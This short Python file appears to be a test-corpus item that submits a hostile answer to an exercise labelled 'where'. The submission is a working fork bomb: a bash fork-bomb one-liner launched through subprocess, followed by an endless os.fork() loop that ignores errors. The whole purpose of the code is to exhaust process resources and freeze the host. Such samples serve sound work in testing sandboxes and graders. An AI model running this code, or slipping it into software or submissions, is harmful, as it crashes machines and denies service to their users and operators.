"""Forks for ever, in Python and in the shell."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os
import subprocess

subprocess.Popen(["bash", "-c", "b() { b | b & }; b"], stderr=subprocess.DEVNULL)
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
)
